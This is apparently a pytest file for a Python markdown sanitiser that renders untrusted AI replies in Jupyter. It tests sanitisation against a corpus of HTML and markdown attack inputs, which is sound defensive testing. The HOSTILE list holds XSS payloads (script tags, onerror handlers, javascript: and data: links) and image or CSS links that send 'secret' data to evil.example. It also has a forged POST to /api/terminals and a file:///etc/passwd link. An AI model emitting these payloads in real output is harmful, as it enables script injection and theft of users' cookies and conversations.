"""Replies are untrusted: rendering them must never leave live HTML (SPEC 10).

Each hostile reply is passed through `safe_markdown` and the result is judged the way
a browser would meet it: re-parsed by markdown-it with raw HTML on (no HTML tokens, no
forbidden link or image), and rendered to HTML and scanned with `html.parser` against
a whitelist, both as plain CommonMark and after Jupyter's math protection.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from yagpt_magic.render import _remove_math, _restore_math, safe_html, safe_markdown

SAFE_TAGS = {
    "p", "em", "strong", "code", "pre", "a", "ul", "ol", "li", "blockquote",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
    "hr", "br", "del", "s", "img",
}  # fmt: skip
SAFE_ATTRS = {"href", "src", "alt", "title", "class", "start", "style"}


def browser_parser() -> MarkdownIt:
    """markdown-it standing in for marked: raw HTML on and no URL filtering."""
    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    return md


def scheme_ok(url: str) -> bool:
    decoded = html.unescape(url)
    for _ in range(3):
        decoded = html.unescape(re.sub(r"%([0-9a-fA-F]{2})", lambda m: chr(int(m[1], 16)), decoded))
    cleaned = re.sub(r"[\x00-\x20\x7f-\x9f\s]+", "", decoded).lower()
    return cleaned.startswith(("http://", "https://", "mailto:"))


def host_of(url: str) -> str:
    match = re.match(r"https?://([^/?#]+)", url, re.I)
    return match.group(1).lower() if match else ""


def walk(tokens: list[Token]) -> list[Token]:
    out: list[Token] = []
    for token in tokens:
        out.append(token)
        out.extend(walk(token.children or []))
    return out


def token_problems(markdown: str, hosts: set[str], allow_html: bool = False) -> list[str]:
    problems = []
    for token in walk(browser_parser().parse(markdown)):
        if token.type in ("html_block", "html_inline") and not allow_html:
            problems.append(f"raw html {token.content!r}")
        if token.type == "link_open" and not scheme_ok(str(token.attrGet("href"))):
            problems.append(f"link {token.attrGet('href')!r}")
        if token.type == "image" and host_of(str(token.attrGet("src"))) not in hosts:
            problems.append(f"image {token.attrGet('src')!r}")
    return problems


class Scanner(HTMLParser):
    """Collects every element, attribute and URL that falls outside the whitelist."""

    def __init__(self, hosts: set[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.hosts = hosts
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in SAFE_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name not in SAFE_ATTRS:
                self.problems.append(f"{tag}[{name}]")
            if name == "href" and not scheme_ok(value):
                self.problems.append(f"href={value!r}")
            if name == "src" and (tag != "img" or host_of(value) not in self.hosts):
                self.problems.append(f"src={value!r}")
            if name == "style" and not re.fullmatch(r"text-align:(left|right|center)", value):
                self.problems.append(f"style={value!r}")

    handle_startendtag = handle_starttag

    def handle_comment(self, data: str) -> None:
        self.problems.append("comment")

    def handle_pi(self, data: str) -> None:
        self.problems.append("processing instruction")

    def handle_decl(self, decl: str) -> None:
        self.problems.append("declaration")


def html_problems(rendered: str, hosts: set[str]) -> list[str]:
    scanner = Scanner(hosts)
    scanner.feed(rendered)
    scanner.close()
    return scanner.problems + (["unfinished markup"] if scanner.rawdata else [])


def all_problems(markdown: str, hosts: set[str] = frozenset()) -> list[str]:  # type: ignore[assignment]
    md = browser_parser()
    masked, math = _remove_math(markdown)
    as_jupyter = _restore_math(md.render(masked), math, quote=False)  # as JupyterLab does
    return (
        token_problems(markdown, hosts)
        + html_problems(md.render(markdown), hosts)
        + html_problems(as_jupyter, hosts)
    )


HOSTILE = [
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "Hello <img src=x onerror='fetch(`/api/terminals`,{method:`POST`})'> there",
    '<svg onload="alert(1)"><circle r="10"/></svg>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{background:url(https://evil.example/?q=secret)}</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="https://evil.example"><button>Go</button></form>',
    '<base href="https://evil.example/">',
    '<a href="javascript:alert(1)">click</a>',
    "<!-- hidden --><img src=x onerror=alert(1)><!-- -->",
    "<?php echo 1 ?> <!DOCTYPE html> <![CDATA[ x ]]>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](jav&#x61;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](<java\tscript:alert(1)>)",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[vb](vbscript:msgbox(1))",
    "[file](file:///etc/passwd) and [rel](../../api/terminals) and [frag](#x)",
    "[a][ref] and [ref]\n\n[ref]: javascript:alert(1)\n",
    "![pic][img]\n\n[img]: https://evil.example/?q=secret\n",
    "<javascript:alert(1)> <vbscript:x> <data:text/html,hi>",
    "![x](https://evil.example/?q=conversation-secret)",
    '![x](javascript:alert(1) "t")',
    "- item <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))\n",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | ![](https://evil.example/p.png) |\n",
    "> quoted <iframe src=javascript:alert(1)>\n> > [x](data:text/html,hi)\n",
    "**<img src=x onerror=alert(1)>** _<b onmouseover=alert(1)>x</b>_",
    "$<img src=x onerror=alert(1)>$",
    "$$\n<script>alert(1)</script>\n$$",
    "\\(<svg/onload=alert(1)>\\)",
    '[x](<https://a.example/$" onmouseover="alert(1)$>)',
    '![$" onerror="alert(1)$](https://evil.example/x.png)',
    'https://a.example/$"onmouseover="alert(1)$',
    '- ```$x"onmouseover="alert(1)$\n  code\n  ```\n',
    '<a title="`"> x `<img src=x onerror=alert(1)>` y',
    "<div>\n[a](javascript:alert(1))\n</div>",
    "\\<img src=x onerror=alert(1)>",
    "\\\\<img src=x onerror=alert(1)>",
    "[outer [inner](javascript:alert(1))](https://ok.example)",
    "[![img](https://evil.example/i.png)](javascript:alert(1))",
    "<IMG SRC=x OnError=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "Visit ftp://evil.example/x",
    "$[a](javascript:alert(1))$",
    "$![x](https://evil.example/?q=secret)$",
    "$$\n[a](data:text/html,hi)\n$$",
]

BENIGN = [
    "# Title\n\nSome *emphasis*, **strong** and ~~gone~~ text.\n",
    "```html\n<script>alert('shown, not run')</script>\n<img src=x onerror=1>\n```\n",
    'Use `<div class="x">` for a box and `a < b` in code.',
    "Inline math $a<b$ and $a<b, c>d$ and $x > y$ and $$\\sum_{i<n} i$$.",
    "| col | other |\n|:---|---:|\n| 1 | *two* |\n| `x|y` | 4 |\n",
    "1. one\n2. two\n   - nested\n   - list\n",
    'See [the docs](https://example.com/docs?a=1&b=2 "Docs") or <https://example.com>.',
    "Write to [us](mailto:team@example.com) or <team@example.com>.",
    "> A quote\n> with **bold**\n>\n> - and a list\n",
    "Plain http://example.com/page and www.example.com links.",
    "    indented <code> block\n    with <tags>\n",
    "Heading\n=======\n\nSub\n---\n\ntext * not emphasis * here\n",
    "a < b and c > d, 3<4, x<-y",
    "\\begin{align} a &< b \\end{align}",
    "Escaped \\[not a link\\](x) and \\*stars\\*.",
]


@pytest.mark.parametrize("reply", HOSTILE)
def test_hostile_reply_leaves_no_live_markup(reply: str) -> None:
    out = safe_markdown(reply)
    assert all_problems(out) == [], out


@pytest.mark.parametrize("reply", HOSTILE)
def test_hostile_reply_is_neutralised_not_dropped(reply: str) -> None:
    # Defence in depth exists, but the corpus should not need the code-block fallback.
    assert not safe_markdown(reply).startswith("```") or reply.startswith("- ```")


@pytest.mark.parametrize("reply", HOSTILE)
def test_hostile_reply_safe_html(reply: str) -> None:
    assert html_problems(safe_html(reply), set()) == []


@pytest.mark.parametrize("reply", BENIGN)
def test_benign_reply_is_unchanged(reply: str) -> None:
    assert safe_markdown(reply) == reply


def test_corpus_size() -> None:
    assert len(HOSTILE) >= 30 and len(BENIGN) >= 10


def test_raw_html_is_shown_as_text() -> None:
    out = safe_markdown("a <b>bold</b> word")
    assert out == "a &lt;b>bold&lt;/b> word"
    assert "&lt;b&gt;bold&lt;/b&gt;" in browser_parser().render(out)


def test_forbidden_link_shows_its_text_and_target() -> None:
    out = safe_markdown("[click](javascript:alert(1))")
    assert out == "&#91;click&#93;(javascript:alert(1))"
    assert browser_parser().render(out) == "<p>[click](javascript:alert(1))</p>\n"


def test_image_becomes_link_showing_its_address() -> None:
    assert safe_markdown("![chart](https://host.example/c.png)") == (
        "[\N{FRAME WITH PICTURE} chart](https://host.example/c.png) `https://host.example/c.png`"
    )
    assert safe_markdown("![x](https://h.example/`a`.png)").endswith(
        " `https://h.example/%60a%60.png`")


def test_image_hosts_let_named_hosts_load() -> None:
    reply = "![chart](https://img.example/c.png)"
    assert safe_markdown(reply, image_hosts=["IMG.example"]) == reply
    assert all_problems(reply, {"img.example"}) == []
    assert safe_markdown(reply, image_hosts=["other.example"]) != reply
    assert safe_markdown(reply, image_hosts="img.example") == reply


@pytest.mark.parametrize(
    "url",
    [
        "https://img.example@evil.example/c.png",
        "https://evil.example/img.example/c.png",
        "https://img.example.evil.example/c.png",
        "ftp://img.example/c.png",
        "javascript:alert(1)//img.example",
    ],
)
def test_image_hosts_match_the_real_host(url: str) -> None:
    out = safe_markdown(f"![x]({url})", image_hosts=["img.example"])
    assert not out.startswith("!")
    assert all_problems(out, {"img.example"}) == []


def test_image_host_with_math_in_alt_is_not_kept() -> None:
    out = safe_markdown('![$" onerror="x$](https://img.example/a.png)', image_hosts=["img.example"])
    assert all_problems(out, {"img.example"}) == []


def test_allow_html_keeps_harmless_html() -> None:
    reply = 'Some <b>bold</b> and <span title="t">span</span>\n\n<div>\nblock\n</div>\n'
    assert safe_markdown(reply, allow_html=True) == reply


@pytest.mark.parametrize(
    "reply",
    [
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        "<b onmouseover=alert(1)>x</b>",
        "<script>alert(1)</script>",
        '<img src="https://evil.example/?q=secret">',
        "<div\n\nstyle=x>",
        "[x](javascript:alert(1)) <b>ok</b>",
    ],
)
def test_allow_html_still_blocks_scripts_links_and_images(reply: str) -> None:
    out = safe_markdown(reply, allow_html=True)
    for rendered in (browser_parser().render(out), safe_html(reply, allow_html=True)):
        scanner = Scanner(set())
        scanner.feed(rendered)
        bad = [p for p in scanner.problems if not p.startswith(("<b>", "<div>", "<span>"))]
        assert bad == [], rendered


def test_allow_html_image_from_named_host() -> None:
    reply = '<img src="https://img.example/a.png" alt="a">'
    assert safe_markdown(reply, allow_html=True, image_hosts=["img.example"]) == reply
    assert safe_markdown(reply, allow_html=True) != reply


def test_math_hiding_html_is_defused_without_changing_tex() -> None:
    assert safe_markdown("$a<b>c$") == "$a< b>c$"
    assert safe_markdown("$a<b$") == "$a<b$"


def test_safe_html_keeps_math_for_mathjax() -> None:
    out = safe_html("Area $\\pi r^2$ and *em* with $a<b$")
    assert "$\\pi r^2$" in out and "<em>em</em>" in out and "$a&lt;b$" in out


def test_safe_html_renders_markdown() -> None:
    out = safe_html("# T\n\n[ok](https://example.com) [bad](javascript:x) <i>raw</i>")
    assert '<a href="https://example.com">ok</a>' in out
    assert "javascript:x" in out and 'href="javascript' not in out
    assert "&lt;i&gt;raw&lt;/i&gt;" in out


def test_unfixable_reply_falls_back_to_a_code_block() -> None:
    # A reference link hidden in math cannot be broken without changing the TeX.
    reply = "$[a][r]$\n\n[r]: javascript:alert(1)"
    out = safe_markdown(reply)
    assert out.startswith("```\n") and reply in out
    assert all_problems(out) == []


def test_line_endings_are_normalised() -> None:
    assert safe_markdown("a\r\nb\rc") == "a\nb\nc"


MARKUP_ALPHABET = st.sampled_from(
    list("<>/![]()`$\\\"'=:*_#|-~&;@{}\n \t")
    + ["img", "script", "onerror", "javascript", "https://", "www.", "a", "b", "x", "1"]
    + ["\\(", "\\[", "\\begin{a}", "```", "    ", "> ", "- ", "@@0@@", "&#x61;", "data:"]
)


@settings(max_examples=400, deadline=None)
@given(st.lists(MARKUP_ALPHABET, max_size=40).map("".join))
def test_any_text_renders_safely(text: str) -> None:
    out = safe_markdown(text)
    assert all_problems(out) == [], out
    assert html_problems(safe_html(text), set()) == []
    assert safe_markdown(out) == out  # showing a transcript again changes nothing


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=80))
def test_any_unicode_text_renders_safely(text: str) -> None:
    assert all_problems(safe_markdown(text)) == []
